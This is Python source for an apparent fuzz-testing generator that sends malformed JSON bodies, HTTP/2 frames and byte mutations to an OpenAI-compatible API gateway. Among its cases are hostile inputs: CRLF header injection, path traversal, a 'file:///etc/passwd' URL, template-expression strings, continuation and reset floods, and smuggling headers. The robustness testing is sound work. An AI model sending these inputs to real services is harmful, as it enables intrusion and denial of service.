BODIES: dict[str, Maker] = {
    "empty": body(b""),
    "blank": body(b" \r\n\t"),
    "list": body(b"[]"),
    "object": body(b"{}"),
    "null": body(b"null"),
    "number": body(b"4"),
    "text": body(b'"text"'),
    "true": body(b"true"),
    "list-of-documents": lambda draw: (request := draw.post()).with_body(b"[" + request.body + b"]"),
    "no-json": body(b"model=gpt-4"),
    "html": body(b"<html></html>"),
    "noise": lambda draw: draw.post().with_body(draw.noise(draw.random.randrange(1, 5000))),
    "cut-off": lambda draw: (request := draw.post()).with_body(
        request.body[: draw.random.randrange(1, len(request.body))]
    ),
    "single-quotes": lambda draw: (request := draw.post()).with_body(request.body.replace(b'"', b"'")),
    "no-quotes": lambda draw: (request := draw.post()).with_body(request.body.replace(b'"', b"")),
    "comment": appended(b" // comment"),
    "comma-at-end": lambda draw: (request := draw.post()).with_body(request.body[:-1] + b",}"),
    "byte-order-mark": prepended(b"\xef\xbb\xbf"),
    "nul-before": prepended(b"\x00"),
    "nul-behind": appended(b"\x00"),
    "nul-in-text": inserted(b'"user": "a\x00b"'),
    "nul-escaped": inserted(b'"user": "a\\u0000b"'),
    "control-in-text": inserted(b'"user": "a\x01\x1f\nb"'),
    "invalid-utf8": inserted(b'"user": "\xff\xfe"'),
    "overlong-utf8": inserted(b'"user": "\xc0\xaf"'),
    "surrogate-in-utf8": inserted(b'"user": "\xed\xa0\x80"'),
    "invalid-utf8-in-name": inserted(b'"\xff": 1'),
    "lone-surrogate": inserted(b'"user": "\\ud800"'),
    "lone-surrogates-reversed": inserted(b'"user": "\\udc00\\ud800"'),
    "bad-escape": inserted(b'"user": "\\x41"'),
    "bad-unicode-escape": inserted(b'"user": "\\u12"'),
    "nested-lists": nested(b"[", b"]", 10_000),
    "nested-objects": nested(b'{"a":', b"}", 10_000),
    "nested-a-little": nested(b"[", b"]", 100),
    "nested-unclosed": body(b"[" * 10_000),
    "nested-unclosed-objects": body(b'{"a":' * 10_000),
    "many-members": inserted(
        b'"metadata": {' + b", ".join(b'"k%d": %d' % (place, place) for place in range(20_000)) + b"}"
    ),
    "twice-model": inserted(b'"model": "another"'),
    "twice-model-same": inserted(b'"model": "{}"'),
    "twice-model-escaped": inserted(b'"mod\\u0065l": "another"'),
    "twice-stream": inserted(b'"stream": false, "stream": true'),
    "twice-stream-escaped": inserted(b'"stream": false, "stre\\u0061m": true'),
    "twice-options": inserted(b'"stream": true, "stream_options": {"include_usage": true, "include_usage": false}'),
    "twice-options-escaped": inserted(
        b'"stream": true, "stream_options": {"include_usage": true, "include_us\\u0061ge": false}'
    ),
    "twice-deep": inserted(b'"metadata": {"a": [{"b": 1, "b": 2}]}'),
    "twice-message": inserted(b'"messages": [{"role": "user", "role": "system", "content": "a", "content": "b"}]'),
    "twice-upper-case": inserted(b'"MODEL": "another", "Stream": true'),
    "twice-with-mark": inserted(b'"\\ufeffmodel": "another"'),
    "stream-escaped": inserted(b'"stre\\u0061m": true'),
    "stream-number": member("stream", 1),
    "stream-text": member("stream", "true"),
    "stream-null": member("stream", None),
    "stream-without-usage": member("stream", True),
    "stream-options-list": member("stream_options", []),
    "stream-options-number": member("stream_options", 7),
    "model-missing": member("model", ...),
    "model-number": member("model", 4),
    "model-null": member("model", None),
    "model-list": member("model", ["gpt-4"]),
    "model-object": member("model", {"name": "gpt-4"}),
    "model-true": member("model", True),
    "model-empty": member("model", ""),
    "model-blank": member("model", " "),
    "model-with-blanks": lambda draw: member("model", f" {draw.model} ")(draw),
    "model-line-break": member("model", "gpt-4\r\nx-a: b"),
    "model-nul": member("model", "gpt-4\x00"),
    "model-controls": member("model", "\x01\x02\x1b[31m\x7f"),
    "model-long": member("model", "m" * 100_000),
    "model-9-kb": member("model", "m" * 9_000),
    "model-unicode": member("model", "\u6a21\u578b-\U0001f600"),
    "model-raw-unicode": lambda draw: draw.post().with_body(
        json.dumps({"model": "caf\u00e9-\u6a21"}, ensure_ascii=False).encode()
    ),
    "model-surrogate": body(b'{"model": "\\ud800", "messages": []}'),
    "model-path": member("model", "../../gpt-4"),
    "model-slash": member("model", "/"),
    "model-percent": member("model", "%zz%00%2f"),
    "model-query": member("model", "gpt-4?a=b#c"),
    "model-wildcard": member("model", "*"),
    "model-expression": member("model", "%REQ(authorization)% ${a} {{ b }}"),
    "model-upper-case": lambda draw: member("model", draw.model.upper())(draw),
    "model-quote": member("model", "\"'`;--"),
    "model-unknown": lambda draw: member("model", draw.text(12).decode())(draw),
    "messages-missing": member("messages", ...),
    "messages-null": member("messages", None),
    "messages-text": member("messages", "Hello"),
    "messages-number": member("messages", 1e10),
    "messages-object": member("messages", {"role": "user"}),
    "messages-empty": member("messages", []),
    "messages-of-numbers": member("messages", [1, 2, 3]),
    "messages-of-nulls": member("messages", [None]),
    "messages-of-lists": member("messages", [[[]]]),
    "message-no-role": member("messages", [{"content": "Hello"}]),
    "message-odd-role": member("messages", [{"role": "wizard", "content": "Hello"}]),
    "message-role-number": member("messages", [{"role": 5, "content": "Hello"}]),
    "message-content-number": member("messages", [{"role": "user", "content": 5}]),
    "message-content-object": member("messages", [{"role": "user", "content": {"a": 1}}]),
    "message-content-parts": member(
        "messages", [{"role": "user", "content": [{"type": "text"}, {"type": "odd"}, None, 5]}]
    ),
    "message-image": member(
        "messages", [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "file:///etc/passwd"}}]}]
    ),
    "message-many": member("messages", [{"role": "user", "content": "a"}] * 5000),
    "prompt-number": lambda draw: draw.post(COMPLETIONS).with_body(
        json.dumps({"model": draw.model, "prompt": 5}).encode()
    ),
    "prompt-nested": lambda draw: draw.post(COMPLETIONS).with_body(
        json.dumps({"model": draw.model, "prompt": [[["a"]]]}).encode()
    ),
    "input-object": lambda draw: draw.post(EMBEDDINGS).with_body(
        json.dumps({"model": draw.model, "input": {"a": 1}}).encode()
    ),
    "input-many": lambda draw: draw.post(EMBEDDINGS).with_body(
        json.dumps({"model": draw.model, "input": ["a"] * 3000}).encode()
    ),
    "max-tokens-text": member("max_tokens", "many"),
    "max-tokens-negative": member("max_tokens", -1),
    "max-tokens-huge": member("max_tokens", 2**63),
    "max-tokens-list": member("max_tokens", [1]),
    "max-tokens-missing": member("max_tokens", ...),
    "tools-odd": member("tools", [{"type": "function", "function": 5}, None]),
    "tool-choice-odd": member("tool_choice", [1]),
    "response-format-odd": member("response_format", {"type": "json_schema", "json_schema": []}),
    "stop-odd": member("stop", {"a": None}),
    "system-odd": member("system", [{"type": "text", "text": 5}]),
    "number-1e999": number(b"1e999"),
    "number-minus-0": number(b"-0"),
    "number-minus": number(b"-"),
    "number-long": number(b"9" * 5000),
    "number-fraction": number(b"0." + b"1" * 5000),
    "number-exponent": number(b"1e" + b"9" * 1000),
    "number-zeros": number(b"007"),
    "number-plus": number(b"+1"),
    "number-dot": number(b".5"),
    "number-hexadecimal": number(b"0x10"),
    "number-nan": number(b"NaN"),
    "number-infinity": number(b"-Infinity"),
    "garbage-behind": appended(b" garbage"),
    "two-documents": lambda draw: (request := draw.post()).with_body(request.body * 2),
    "two-documents-lines": lambda draw: (request := draw.post()).with_body(request.body + b"\n" + request.body),
    "blanks-behind": appended(b" " * 10_000),
    "blanks-before": prepended(b"\n" * 10_000),
    "of-300-kb": sized(300_000),
}
#: Costly ones.
RARE: dict[str, Maker] = {
    "body/of-1-mb": sized(1_000_000),
    "body/of-5-mb": sized(5_000_000),
    "body/over-the-limit": lambda draw: draw.post(CHAT).with_body(b'{"model": "' + b"a" * OVERSIZE + b'"}'),
}

##### HTTP/2


def frames(change: t.Callable[[list[h2.Header], Draw], list[h2.Header]]) -> Maker:
    """A request of HTTP/2 with other headers."""

    def make(draw: Draw) -> Made:
        request = draw.any()
        return http2(h2.request(change(draw.http2(request), draw), request.body))

    return make


def without(*names: bytes) -> Maker:
    return frames(lambda headers, draw: [header for header in headers if header[0] not in names])


def instead(name: bytes, value: bytes) -> Maker:
    return frames(lambda headers, draw: [(found, value if found == name else old) for found, old in headers])


def added(*more: h2.Header) -> Maker:
    return frames(lambda headers, draw: [*headers, *more])


def sent(make: t.Callable[[bytes, bytes, Draw], bytes | tuple[bytes, ...]], complete: bool = True) -> Maker:
    """Frames of one's own from the block of headers and the body of a valid request."""

    def maker(draw: Draw) -> Made:
        request = draw.post()
        made = make(h2.block(draw.http2(request)), request.body, draw)
        return http2(*([made] if isinstance(made, bytes) else made), complete=complete)

    return maker


def fault(make: t.Callable[[bytes, bytes, Draw], bytes]) -> Maker:
    """Frames that are no whole request, so that the gateway may end the connection or wait."""
    return sent(make, complete=False)


def whole(headers: bytes, body: bytes) -> bytes:
    return h2.header_frames(headers, 0) + h2.frame(h2.DATA, h2.END_STREAM, 1, body)


HTTP2: dict[str, Maker] = {
    "valid": frames(lambda headers, draw: headers),
    "no-method": without(b":method"),
    "no-scheme": without(b":scheme"),
    "no-path": without(b":path"),
    "no-authority": without(b":authority"),
    "no-pseudo": without(b":method", b":scheme", b":path", b":authority"),
    "path-twice": frames(lambda headers, draw: [(b":path", b"/v1/models"), *headers]),
    "method-twice": frames(lambda headers, draw: [(b":method", b"GET"), *headers]),
    "authority-and-host": added((b"host", b"elsewhere.example")),
    "pseudo-last": frames(lambda headers, draw: [*headers[4:], (b"x-a", b"b"), *headers[:4]]),
    "pseudo-unknown": frames(lambda headers, draw: [(b":odd", b"a"), *headers]),
    "pseudo-status": frames(lambda headers, draw: [(b":status", b"200"), *headers]),
    "pseudo-protocol": frames(lambda headers, draw: [(b":protocol", b"websocket"), *headers]),
    "upper-case-name": added((b"X-Upper", b"a")),
    "empty-name": added((b"", b"a")),
    "name-with-blank": added((b"x a", b"a")),
    "name-with-colon": added((b"x:a", b"a")),
    "name-not-ascii": added((b"x-\xe9", b"a")),
    "name-with-nul": added((b"x-\x00", b"a")),
    "value-with-nul": added((b"x-a", b"a\x00b")),
    "value-with-line-break": added((b"x-a", b"a\r\nx-b: c")),
    "value-with-blanks": added((b"x-a", b" a ")),
    "value-latin1": added((b"x-a", b"caf\xe9")),
    "value-long": added((b"x-a", b"a" * 100_000)),
    "many": added(*((b"x-%d" % place, b"a") for place in range(200))),
    "connection": added((b"connection", b"close")),
    "keep-alive": added((b"keep-alive", b"timeout=5")),
    "transfer-encoding": added((b"transfer-encoding", b"chunked")),
    "upgrade": added((b"upgrade", b"h2c")),
    "proxy-connection": added((b"proxy-connection", b"close")),
    "te-trailers": added((b"te", b"trailers")),
    "te-gzip": added((b"te", b"gzip")),
    "expect": added((b"expect", b"100-continue")),
    "cookies": added(*((b"cookie", b"a=%d" % place) for place in range(50))),
    "two-authorizations": added((b"authorization", b"Bearer a"), (b"authorization", b"Bearer b")),
    "length-wrong": added((b"content-length", b"5")),
    "length-twice": added((b"content-length", b"5"), (b"content-length", b"6")),
    "length-letters": added((b"content-length", b"five")),
    "path-empty": instead(b":path", b""),
    "path-no-slash": instead(b":path", b"v1/models"),
    "path-asterisk": instead(b":path", b"*"),
    "path-absolute": instead(b":path", b"http://elsewhere.example/v1/models"),
    "method-blank": instead(b":method", b"GET /v1/models HTTP/1.1"),
    "method-empty": instead(b":method", b""),
    "method-lower-case": instead(b":method", b"post"),
    "method-connect": instead(b":method", b"CONNECT"),
    "method-head": frames(
        lambda headers, draw: [(b":method", b"HEAD"), *(header for header in headers if header[0] != b":method")]
    ),
    "scheme-https": instead(b":scheme", b"https"),
    "scheme-odd": instead(b":scheme", b"odd scheme"),
    "scheme-empty": instead(b":scheme", b""),
    "authority-empty": instead(b":authority", b""),
    "authority-odd": instead(b":authority", b"a b@c/d"),
    "reset-after-headers": sent(
        lambda headers, body, draw: h2.header_frames(headers, 0) + h2.frame(h2.RST_STREAM, 0, 1, b"\x00\x00\x00\x08"),
        complete=False,
    ),
    "reset-after-body": sent(
        lambda headers, body, draw: (whole(headers, body), h2.frame(h2.RST_STREAM, 0, 1, b"\x00\x00\x00\x08")),
        complete=False,
    ),
    "reset-and-again": sent(
        lambda headers, body, draw: b"".join(
            h2.header_frames(headers, 0, stream) + h2.frame(h2.RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
            for stream in range(1, 41, 2)
        ),
        complete=False,
    ),
    "reset-of-idle-stream": fault(lambda headers, body, draw: h2.frame(h2.RST_STREAM, 0, 5, b"\x00\x00\x00\x00")),
    "reset-short": fault(
        lambda headers, body, draw: h2.header_frames(headers, 0) + h2.frame(h2.RST_STREAM, 0, 1, b"\x00")
    ),
    "no-end": sent(lambda headers, body, draw: h2.header_frames(headers, 0), complete=False),
    "headers-cut-off": sent(
        lambda headers, body, draw: h2.frame(h2.HEADERS, h2.END_HEADERS, 1, headers[:20], len(headers)), complete=False
    ),
    "body-cut-off": sent(
        lambda headers, body, draw: h2.header_frames(headers, 0) + h2.frame(h2.DATA, 0, 1, body[:9]), complete=False
    ),
    "data-beyond-window": sent(
        lambda headers, body, draw: (
            h2.header_frames(headers, 0)
            + h2.frame(h2.DATA, 0, 1, b" " * h2.FRAME_SIZE) * 80
            + h2.frame(h2.DATA, h2.END_STREAM, 1, body)
        ),
        complete=False,
    ),
    "data-frame-too-large": fault(
        lambda headers, body, draw: h2.header_frames(headers, 0) + h2.frame(h2.DATA, h2.END_STREAM, 1, b" " * 30_000)
    ),
    "data-on-idle-stream": fault(lambda headers, body, draw: h2.frame(h2.DATA, h2.END_STREAM, 3, body)),
    "data-on-stream-0": fault(lambda headers, body, draw: h2.frame(h2.DATA, h2.END_STREAM, 0, body)),
    "data-after-end": sent(
        lambda headers, body, draw: whole(headers, body) + h2.frame(h2.DATA, h2.END_STREAM, 1, body)
    ),
    "data-empty-frames": sent(
        lambda headers, body, draw: (
            h2.header_frames(headers, 0) + h2.frame(h2.DATA, 0, 1) * 50 + h2.frame(h2.DATA, h2.END_STREAM, 1, body)
        )
    ),
    "data-padded": sent(
        lambda headers, body, draw: (
            h2.header_frames(headers, 0) + h2.frame(h2.DATA, h2.END_STREAM | h2.PADDED, 1, b"\xff" + body + bytes(255))
        )
    ),
    "data-padding-too-long": fault(
        lambda headers, body, draw: (
            h2.header_frames(headers, 0) + h2.frame(h2.DATA, h2.END_STREAM | h2.PADDED, 1, b"\xff{}")
        )
    ),
    "headers-padded": sent(
        lambda headers, body, draw: (
            h2.frame(h2.HEADERS, h2.END_HEADERS | h2.PADDED, 1, b"\x05" + headers + bytes(5))
            + h2.frame(h2.DATA, 1, 1, body)
        )
    ),
    "headers-priority": sent(
        lambda headers, body, draw: (
            h2.frame(h2.HEADERS, h2.END_HEADERS | h2.HAS_PRIORITY, 1, b"\x80\x00\x00\x03\xff" + headers)
            + h2.frame(h2.DATA, h2.END_STREAM, 1, body)
        )
    ),
    "headers-depend-on-themselves": sent(
        lambda headers, body, draw: h2.frame(
            h2.HEADERS, h2.END_HEADERS | h2.HAS_PRIORITY, 1, b"\x00\x00\x00\x01\x00" + headers
        ),
        complete=False,
    ),
    "headers-on-stream-0": fault(lambda headers, body, draw: h2.header_frames(headers, h2.END_STREAM, 0)),
    "headers-on-even-stream": fault(lambda headers, body, draw: h2.header_frames(headers, h2.END_STREAM, 2)),
    "streams-backwards": sent(
        lambda headers, body, draw: h2.header_frames(headers, 1, 5) + h2.header_frames(headers, 1, 3)
    ),
    "headers-twice": sent(lambda headers, body, draw: h2.header_frames(headers, 0) * 2, complete=False),
    "trailers": sent(
        lambda headers, body, draw: (
            h2.header_frames(headers, 0)
            + h2.frame(h2.DATA, 0, 1, body)
            + h2.header_frames(h2.block([(b"x-a", b"b"), (b"authorization", b"Bearer x")]))
        )
    ),
    "trailers-pseudo": sent(
        lambda headers, body, draw: (
            h2.header_frames(headers, 0)
            + h2.frame(h2.DATA, 0, 1, body)
            + h2.header_frames(h2.block([(b":path", b"/v1/models")]))
        )
    ),
    "continuation": sent(
        lambda headers, body, draw: (
            h2.frame(h2.HEADERS, 0, 1, headers[:10])
            + h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1, headers[10:])
            + h2.frame(h2.DATA, h2.END_STREAM, 1, body)
        )
    ),
    "continuation-flood": sent(
        lambda headers, body, draw: (
            h2.frame(h2.HEADERS, 0, 1, headers) + h2.frame(h2.CONTINUATION, 0, 1, h2.block([(b"x-a", b"b")])) * 30
        ),
        complete=False,
    ),
    "continuation-empty": sent(
        lambda headers, body, draw: h2.frame(h2.HEADERS, 0, 1, headers) + h2.frame(h2.CONTINUATION, 0, 1) * 30,
        complete=False,
    ),
    "continuation-alone": fault(lambda headers, body, draw: h2.frame(h2.CONTINUATION, h2.END_HEADERS, 1, headers)),
    "continuation-interrupted": fault(
        lambda headers, body, draw: h2.frame(h2.HEADERS, 0, 1, headers[:10]) + h2.frame(h2.PING, 0, 0, bytes(8))
    ),
    "hpack-index-0": fault(lambda headers, body, draw: h2.header_frames(b"\x80")),
    "hpack-index-unknown": fault(lambda headers, body, draw: h2.header_frames(b"\xff\x80\x80\x01")),
    "hpack-number-endless": fault(lambda headers, body, draw: h2.header_frames(b"\xff" + b"\xff" * 20)),
    "hpack-cut-off": fault(lambda headers, body, draw: h2.header_frames(headers[:-5])),
    "hpack-huffman-broken": fault(lambda headers, body, draw: h2.header_frames(b"\x00\x84\xff\xff\xff\xff\x01a")),
    "hpack-table-too-large": fault(lambda headers, body, draw: h2.header_frames(b"\x3f\xff\xff\xff\x7f" + headers)),
    "hpack-noise": fault(lambda headers, body, draw: h2.header_frames(draw.noise(60))),
    "goaway": sent(
        lambda headers, body, draw: h2.frame(h2.GOAWAY, 0, 0, bytes(8)) + whole(headers, body), complete=False
    ),
    "goaway-short": fault(lambda headers, body, draw: h2.frame(h2.GOAWAY, 0, 0, bytes(3))),
    "priority": sent(lambda headers, body, draw: h2.frame(h2.PRIORITY, 0, 1, bytes(5)) + whole(headers, body)),
    "priority-short": fault(lambda headers, body, draw: h2.frame(h2.PRIORITY, 0, 1, bytes(3))),
    "priority-on-stream-0": fault(lambda headers, body, draw: h2.frame(h2.PRIORITY, 0, 0, bytes(5))),
    "ping": sent(lambda headers, body, draw: h2.frame(h2.PING, 0, 0, bytes(8)) * 20 + whole(headers, body)),
    "ping-short": fault(lambda headers, body, draw: h2.frame(h2.PING, 0, 0, bytes(3))),
    "ping-on-stream": fault(lambda headers, body, draw: h2.frame(h2.PING, 0, 1, bytes(8))),
    "settings-many": sent(lambda headers, body, draw: h2.frame(h2.SETTINGS, 0, 0) * 50 + whole(headers, body)),
    "settings-short": fault(lambda headers, body, draw: h2.frame(h2.SETTINGS, 0, 0, bytes(5))),
    "settings-on-stream": fault(lambda headers, body, draw: h2.frame(h2.SETTINGS, 0, 1)),
    "settings-window-too-large": fault(
        lambda headers, body, draw: h2.frame(h2.SETTINGS, 0, 0, b"\x00\x04\xff\xff\xff\xff")
    ),
    "settings-frame-too-small": fault(
        lambda headers, body, draw: h2.frame(h2.SETTINGS, 0, 0, b"\x00\x05\x00\x00\x00\x01")
    ),
    "settings-unknown": sent(
        lambda headers, body, draw: h2.frame(h2.SETTINGS, 0, 0, b"\xab\xcd\x00\x00\x00\x01") + whole(headers, body)
    ),
    "settings-acknowledgement": sent(
        lambda headers, body, draw: h2.frame(h2.SETTINGS, h2.ACK, 0) * 5 + whole(headers, body)
    ),
    "window-0": fault(lambda headers, body, draw: h2.frame(h2.WINDOW_UPDATE, 0, 0, bytes(4))),
    "window-overflow": fault(lambda headers, body, draw: h2.frame(h2.WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 2),
    "window-of-stream-0": fault(
        lambda headers, body, draw: h2.header_frames(headers, 0) + h2.frame(h2.WINDOW_UPDATE, 0, 1, bytes(4))
    ),
    "push": fault(
        lambda headers, body, draw: h2.frame(h2.PUSH_PROMISE, h2.END_HEADERS, 1, b"\x00\x00\x00\x02" + headers)
    ),
    "frame-unknown": sent(lambda headers, body, draw: h2.frame(0xEE, 0xFF, 0, b"odd") + whole(headers, body)),
    "frame-huge": sent(lambda headers, body, draw: h2.frame(h2.DATA, 0, 1, b"odd", 2**24 - 1), complete=False),
    "flags-all": sent(lambda headers, body, draw: h2.frame(h2.HEADERS, 0xFF, 1, headers), complete=False),
    "reserved-bit": sent(
        lambda headers, body, draw: h2.header_frames(headers, 0, 1) + h2.frame(h2.DATA, 1, 0x80000001, body)
    ),
    "preface-cut-off": lambda draw: Bytes((h2.PREFACE[:15],), complete=False, http2=True),
    "preface-wrong": lambda draw: Bytes((h2.PREFACE[:-6] + b"XX\r\n\r\n",), complete=False, http2=True),
    "no-settings": lambda draw: Bytes((h2.PREFACE + h2.request(draw.http2(draw.get())),), complete=False, http2=True),
    "http-1-behind": lambda draw: Bytes((h2.opening() + draw.get().raw,), complete=False, http2=True),
    "noise-behind": lambda draw: Bytes((h2.opening() + draw.noise(200),), complete=False, http2=True),
    "streams": sent(
        lambda headers, body, draw: b"".join(
            h2.header_frames(headers, h2.END_STREAM, stream) for stream in range(1, 41, 2)
        ),
        complete=False,
    ),
}


def in_http2(value: bytes) -> Maker:
    return lambda draw: http2(h2.request(draw.http2(draw.get(value))))


##### Mutations


def mutated(data: bytes, draw: Draw, change: str) -> bytes:
    """Return `data` with one to eight bytes flipped, taken out or put in, mostly among its first."""
    found = bytearray(data)
    for _number in range(draw.random.randrange(1, 9)):
        if not found:
            break
        near = draw.random.random() < 0.6
        place = draw.random.randrange(min(len(found), 200) if near else len(found))
        what = draw.random.choice(("flip", "delete", "insert", "copy")) if change == "mixed" else change
        if what == "flip":
            found[place] ^= 1 << draw.random.randrange(8)
        elif what == "delete":
            del found[place : place + draw.random.randrange(1, 4)]
        elif what == "insert":
            found[place:place] = (
                draw.noise(draw.random.randrange(1, 4))
                if draw.random.random() < 0.5
                else draw.random.choice((b"\r\n", b":", b" ", b"%", b"\x00"))
            )
        else:
            found[place:place] = found[place : place + draw.random.randrange(1, 60)]
    return bytes(found)


def mutation(change: str) -> Maker:
    return lambda draw: raw(mutated(draw.any().raw, draw, change), complete=False)


def body_mutation(change: str) -> Maker:
    """The body alone, and its length with it."""
    return lambda draw: (request := draw.post()).with_body(mutated(request.body, draw, change))


def http2_mutation(change: str) -> Maker:
    def make(draw: Draw) -> Made:
        request = draw.any()
        return http2(mutated(h2.request(draw.http2(request), request.body), draw, change), complete=False)

    return make


CHANGES = ("flip", "delete", "insert", "copy", "mixed")

KINDS: dict[str, Maker] = {
    **{f"line/{name}": maker for name, maker in LINES.items()},
    **{f"path/{name}": target(value) for name, value in TARGETS.items()},
    **{f"header/{name}": maker for name, maker in HEADERS.items()},
    **{f"authorization/{name}": maker for name, maker in AUTHORIZATIONS.items()},
    **{f"transfer/{name}": maker for name, maker in TRANSFERS.items()},
    **{f"encoding/{name}": maker for name, maker in ENCODINGS.items()},
    **{f"type/{name}": maker for name, maker in TYPES.items()},
    **{f"body/{name}": maker for name, maker in BODIES.items()},
    **{f"http2/{name}": maker for name, maker in HTTP2.items()},
    **{f"http2-path/{name}": in_http2(value) for name, value in TARGETS.items()},
    **{f"mutation/{name}": mutation(name) for name in CHANGES},
    **{f"mutation/body-{name}": body_mutation(name) for name in CHANGES},
    **{f"mutation/http2-{name}": http2_mutation(name) for name in CHANGES},
    "valid/any": lambda draw: draw.any(),
    **RARE,
}
#: A round has each of them once, and these as often.
OFTEN = {name: 8 if name.startswith("mutation/") else 1 for name in KINDS}
ROUND = [name for name, times in OFTEN.items() for _number in range(times)]


@functools.cache
def order(seed: int, turn: int) -> list[str]:
    """Return the kinds of a round."""
    names = [("mutation/mixed" if name in RARE and turn % RARE_ROUNDS else name) for name in ROUND]
    random.Random(f"{seed} {turn}").shuffle(names)  # noqa: S311
    return names


def case(
    seed: int, index: int, *, token: str = "", host: str = "localhost", model: str = "gpt-4", kind: str | None = None
) -> Case:
    """Return the case of that number, always the same for the same arguments.

    :param token: a caller's token; about four in ten cases come without it. Empty for none.
    :param kind: one of KINDS, instead of the one whose turn it is.
    """
    turn, place = divmod(index, len(ROUND))
    name = kind or order(seed, turn)[place]
    draw = Draw(random.Random(f"{seed} {index}"), token, host, model)  # noqa: S311
    made = KINDS[name](draw)
    if isinstance(made, Request):
        path = made.target.decode("latin-1")
        return Case(name, index, (made.raw,), head=made.method == b"HEAD", authorized=draw.authorized, path=path)
    head = made.segments[0].startswith(b"HEAD ") or name == "http2/method-head"
    return Case(name, index, made.segments, made.http2, head, made.complete, draw.authorized)
